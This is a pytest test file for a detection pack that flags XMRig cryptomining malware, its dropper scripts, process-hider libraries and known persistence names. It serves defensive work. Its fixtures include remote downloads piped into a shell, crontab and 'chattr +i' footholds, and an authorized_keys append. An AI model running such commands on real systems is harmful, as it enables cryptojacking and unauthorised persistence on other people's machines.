"""The miner's pack knows what public analyses describe, and keeps quiet about what only looks like it."""

from pathlib import Path

import pytest

from quetsach.core.pack import ArtefactKind
from quetsach.endpoint.artefact import Artefact, FileAnchor, LineAnchor, ProcessAnchor, RegistryAnchor
from quetsach.endpoint.engine.boreal import BorealEngine
from quetsach.endpoint.scanner.match import Observation, TraitMatcher
from quetsach.packs.load import load_pack

PACK = load_pack(Path(__file__).parents[3] / "packs" / "xmrig-miner")
MATCHER = BorealEngine().compile({PACK.family: PACK.rules})
ELF = b"\x7fELF\x02\x01\x01"
POOL = b"stratum+tcp://pool.example:3333\0"
OPTIONS = b"donate-level\0donate-over-proxy\0rig-id\0nicehash\0cpu-max-threads-hint\0"
HIDER = b"/proc/self/fd/%d\0/proc/%s/stat\0%d (%[^)]s\0readdir\0dlsym\0"
SCRIPT = "#!/bin/sh\ncurl http://192.0.2.1/x\n./k -o stratum+tcp://192.0.2.1\n"
FOOTHOLDS = "crontab - < t\nchattr +i x\necho k >> ~/.ssh/authorized_keys\n"


def _rules(content: bytes) -> list[str]:
    return [hit.rule for hit in MATCHER.match(content)]


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (ELF + POOL + OPTIONS, "xmrig_miner_program"),
        (b'{"pools": [], "donate-level": 0, "randomx": {}, "rig-id": null}', "xmrig_miner_configuration"),
        ((SCRIPT + FOOTHOLDS).encode(), "miner_dropper_script"),
        (ELF + HIDER, "process_hider_library"),
    ],
)
def test_what_the_family_is_made_of_is_known(content: bytes, rule: str) -> None:
    assert _rules(content) == [rule]


@pytest.mark.parametrize(
    "content",
    [
        ELF + POOL,
        ELF + OPTIONS,
        ELF + POOL + b"donate-level\0rig-id\0nicehash\0",
        b"text about " + POOL + OPTIONS,
        b'{"pools": [], "randomx": {}, "rig-id": null}',
        b'["pools", "donate-level", "randomx", "rig-id"]',
        SCRIPT.encode() + b"crontab - < t\nchattr +i x\n",
        b"#!/bin/sh\n" + FOOTHOLDS.encode(),
        (SCRIPT + FOOTHOLDS)[2:].encode(),
        ELF + HIDER.replace(b"dlsym", b""),
        ELF + HIDER.replace(b"/proc/self/fd/%d", b""),
        HIDER,
    ],
)
def test_what_only_looks_like_it_is_left_alone(content: bytes) -> None:
    assert _rules(content) == []


FILE = FileAnchor(b"/f", 1, 1, 1, 1, 1, sha256="")


def _artefact(kind: ArtefactKind, field: str, value: str) -> Artefact:
    anchors = {ArtefactKind.PROCESS: ProcessAnchor(1, 1, b"/x", deleted=False), ArtefactKind.SYSTEMD_UNIT: FILE}
    return Artefact(kind, anchors.get(kind, LineAnchor(FILE, 1, value.encode())), {field: value})


@pytest.mark.parametrize(
    ("kind", "field", "value", "trait"),
    [
        ("cron-entry", "command", "/root/.configrc/a/upd>/dev/null 2>&1", "known-cron-entry"),
        ("cron-entry", "command", "/home/git/.configrc7/b/sync>/dev/null 2>&1", "known-cron-entry"),
        ("cron-entry", "command", "/tmp/.X25-unix/.rsync/c/aptitude>/dev/null 2>&1", "known-cron-entry"),
        ("cron-entry", "command", "/tmp/.X25-unix/c/aptitude>/dev/null 2>&1", "known-cron-entry"),
        ("cron-entry", "command", "/bin/sh /root/.configrc/a/upd", "known-cron-entry"),
        ("cron-entry", "command", "sleep 9; nohup ~/.configrc/b/sync &", "known-cron-entry"),
        ("cron-entry", "command", "rm -rf /root/.configrc/a/upd /tmp/.X25-unix/.rsync/c", None),
        ("cron-entry", "command", "chmod 1777 /tmp/.X11-unix", None),
        ("cron-entry", "command", "/usr/bin/rsync -a /root/.config/a /b", None),
        ("preload-entry", "libraries", "/etc/libsystem.so", "known-preload-entry"),
        ("preload-entry", "libraries", "/lib/x.so /usr/local/lib/libprocesshider.so", "known-preload-entry"),
        ("preload-entry", "libraries", "/usr/lib/libjemalloc.so.2", None),
        ("systemd-unit", "exec", "/etc/kinsing", "known-service"),
        ("systemd-unit", "exec", "/etc/data/kinsing", "known-service"),
        ("preload-entry", "libraries", "/etc/data/libsystem.so", "known-preload-entry"),
        ("systemd-unit", "exec", "/bin/true; /tmp/kdevtmpfsi -B", "known-service"),
        ("systemd-unit", "exec", "/usr/sbin/sshd -D", None),
        ("process", "executable", "/tmp/kdevtmpfsi", "known-process"),
        ("process", "executable", "/tmp/kdevtmpfsi917285", "known-process"),
        ("process", "executable", "/usr/bin/kdevtmpfsi-report", None),
        ("authorized-key", "comment", "mdrfckr", "ssh-key"),
        ("authorized-key", "comment", "admin-mdrfckr-watch", None),
    ],
)
def test_names_of_known_groups(kind: str, field: str, value: str, trait: str | None) -> None:
    found = TraitMatcher([PACK], BorealEngine()).find([Observation(_artefact(ArtefactKind(kind), field, value))])
    assert [finding.trait for finding in found] == ([trait] if trait else [])


@pytest.mark.parametrize(
    ("command", "counts"),
    [
        ("wget -q -O - http://192.0.2.1/unk.sh | sh > /dev/null 2>&1", True),
        ("(curl -fsSL http://192.0.2.1/x.sh || wget -qO- http://192.0.2.1/x.sh)|bash", True),
        ("curl -s https://192.0.2.1:8080/a|/bin/sh", True),
        ("curl -s https://get.example.org/install.sh | sh", False),
        ("wget -q -O /var/lib/list http://192.0.2.1/list", False),
        ("ping 192.0.2.1 | sh", False),
    ],
)
def test_a_download_into_a_shell_counts_beside_a_miner(command: str, counts: bool) -> None:
    line = Observation(_artefact(ArtefactKind.CRON_ENTRY, "command", command))
    hits = MATCHER.match(ELF + POOL + OPTIONS)
    miner = Observation(Artefact(ArtefactKind.FILE, FILE, {"path": "/tmp/k"}), hits)
    matcher = TraitMatcher([PACK], BorealEngine())
    assert matcher.find([line]) == ()
    assert [f.trait for f in matcher.find([line, miner])] == ["cron-download"] * counts + ["miner-program"]


def _at(path: str) -> Observation:
    anchor = FileAnchor(path.encode(), 1, 1, 1, 1, 1, sha256="")
    return Observation(Artefact(ArtefactKind.FILE, anchor, {"path": path, "name": path.rpartition("/")[2]}))


@pytest.mark.parametrize(
    ("kind", "fields", "path", "trait"),
    [
        ("preload-entry", {"libraries": "/etc/libsystem.so"}, "/etc/libsystem.so", "packed-library"),
        ("preload-entry", {"libraries": "/etc/libsystem.so"}, "/lib/x86_64-linux-gnu/libc.so.6", None),
        ("systemd-unit", {"exec": "/bin/true; /tmp/kdevtmpfsi -B"}, "/tmp/kdevtmpfsi", "packed-program"),
        ("systemd-unit", {"exec": "/bin/true; /tmp/kdevtmpfsi -B"}, "/bin/true", None),
        ("process", {"executable": "/etc/kinsing"}, "/etc/kinsing", "packed-program"),
        ("cron-entry", {"command": "/root/.configrc/a/upd>x"}, "/root/.configrc/a/upd", "scheduled-script"),
        ("cron-entry", {"command": "/tmp/.X25-unix/c/aptitude"}, "/tmp/.X25-unix/c/aptitude", "scheduled-script"),
        ("cron-entry", {"command": "/bin/sh /root/.configrc/a/upd"}, "/bin/sh", None),
        ("cron-entry", {"command": "/root/.configrc/a/upd /root/data"}, "/root/data", None),
        (
            "service",
            {"name": "vmichapagentsrv", "dll": "C:\\Windows\\System32\\vmichapagentsrv.dll"},
            "/Windows/System32/VmicHapAgentSrv.dll",
            "packed-service-library",
        ),
        (
            "service",
            {"name": "wmassrv", "dll": "C:\\Windows\\System32\\wmassrv.dll"},
            "/Windows/System32/svchost.exe",
            None,
        ),
        (
            "scheduled-task",
            {"command": "cmd.exe /c C:\\Windows\\Temp\\sysupdater0.bat"},
            "/Windows/Temp/sysupdater0.bat",
            "task-script",
        ),
        (
            "scheduled-task",
            {"command": "cmd.exe /c C:\\Windows\\Temp\\sysupdater0.bat"},
            "/Windows/System32/cmd.exe",
            None,
        ),
    ],
)
def test_a_file_goes_with_a_known_name_that_starts_it_and_shells_stay(
    kind: str, fields: dict[str, str], path: str, trait: str | None
) -> None:
    seen = _artefact(ArtefactKind(kind), "", "")
    starts = Observation(Artefact(seen.kind, seen.anchor, fields, (path.encode(),)))
    matcher = TraitMatcher([PACK], BorealEngine())
    found = [
        one.trait for one in matcher.find([starts, _at(path), _at(f"{path}.of-mine")]) if one.artefact.kind == "file"
    ]
    assert found == ([trait] if trait else [])
    assert matcher.find([_at(path)]) == ()


def test_a_library_with_a_made_up_name_goes_only_with_its_service_beside_a_sure_one() -> None:
    name, path = "NetworkUPnPHost", "/Windows/System32/NetworkUPnPHost.dll"
    made_up, known = (
        Observation(Artefact(ArtefactKind.SERVICE, RegistryAnchor(one, None), fields, (there.encode(),)))
        for one, there in ((name, path), ("wmassrv", "/Windows/System32/wmassrv.dll"))
        for fields in ({"name": one, "dll": f"C:\\Windows\\System32\\{one}.dll"},)
    )
    matcher = TraitMatcher([PACK], BorealEngine())
    assert matcher.find([made_up, _at(path)]) == ()
    assert {one.trait for one in matcher.find([made_up, known, _at(path)])} == {
        "known-windows-service",
        "made-up-service",
        "packed-library-of-made-up-service",
    }
